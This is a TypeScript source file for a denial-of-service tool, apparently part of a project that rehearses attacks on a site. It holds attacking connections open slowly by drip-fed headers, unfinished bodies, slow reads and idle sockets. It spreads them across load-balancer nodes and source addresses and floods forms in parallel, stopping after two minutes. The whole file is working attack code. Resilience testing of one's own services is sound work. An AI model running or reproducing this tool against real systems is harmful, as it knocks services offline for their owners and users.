// node main.ts PLAN: attacks a site as the plan (JSON) says, until standard input ends. Prints a line `open` when every connection
// has been made once, and at the end a report as a JSON line. Bounded: it ends by itself after two minutes.
import { promises as dns } from "node:dns";
import { setTimeout as sleep } from "node:timers/promises";
import { holdOpen } from "../../rehearsal/support/slowConnection";
import { type AttackPlan, type AttackReport, announcedBytes, type SlowGroup } from "./attackPlan";
import { sendForm } from "./form";

const longestMs = 120_000;
const plan = JSON.parse(process.argv[2] ?? "") as AttackPlan;
const { url, addresses, groups, openingSeconds, formsPerSecond } = plan;
const { hostname: host, protocol, port: givenPort } = new URL(url);
const https = protocol === "https:";
const port = Number(givenPort || (https ? 443 : 80));
const open: Record<string, number> = {};
const forms: Record<string, number> = {};
let turn = 0;

const headers = (request: string, more = "") => `${request}\r\nHost: ${host}\r\nUser-Agent: attack\r\n${more}`;
const ways = {
  headers: (request: string) => ({ opening: headers(request), drop: "X-A: b\r\n" }),
  body: (request: string) => ({
    opening: headers(
      request,
      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${announcedBytes}\r\n\r\n`,
    ),
    drop: "a=b&",
  }),
  answer: (request: string) => ({ opening: headers(request, "\r\n"), bytesPerSecond: 20_000 }),
  idle: (request: string) => ({ opening: headers(request, "\r\n") }),
};

/** Holds a connection of the group to the next node of the balancer, from the next address. */
function hold({ name, request, way }: SlowGroup, nodes: readonly string[]): Promise<void> {
  const n = turn++;
  let isOpen = false;
  const count = (change: boolean) => {
    if (isOpen !== change) open[name] = (open[name] ?? 0) + (change ? 1 : -1);
    isOpen = change;
  };
  return new Promise(opened =>
    holdOpen(
      {
        host: nodes[n % nodes.length] ?? host,
        port,
        tls: https,
        localAddress: addresses[n % addresses.length] ?? "0.0.0.0",
        ...ways[way](request),
      },
      () => {
        count(true);
        opened();
      },
      () => count(false),
    ),
  );
}

async function main(): Promise<void> {
  const nodes = (await dns.lookup(host, { all: true, family: 4 })).map(({ address }) => address);
  const all = groups.flatMap(group =>
    Array.from({ length: group.count }, async (_, n) => {
      await sleep((n / group.count) * openingSeconds * 1000);
      await hold(group, nodes);
    }),
  );
  void Promise.all(all).then(() => console.log("open"));
  const began = Date.now();
  let sent = 0;
  const flood = setInterval(() => {
    for (; sent < ((Date.now() - began) / 1000) * formsPerSecond; sent++) {
      const place = { host: nodes[sent % nodes.length] ?? host, name: host, port, https };
      void sendForm(place, addresses[sent % addresses.length] ?? "", `attack ${sent}`).then(status => {
        forms[status] = (forms[status] ?? 0) + 1;
      });
    }
  }, 10);
  const end = () => {
    clearInterval(flood);
    const report: AttackReport = { open, forms };
    process.stdout.write(`${JSON.stringify(report)}\n`, () => process.exit());
  };
  process.stdin.on("end", end).resume();
  setTimeout(end, longestMs);
}

main().catch((error: unknown) => {
  console.error(error instanceof Error ? error.message : String(error));
  process.exit(1);
});
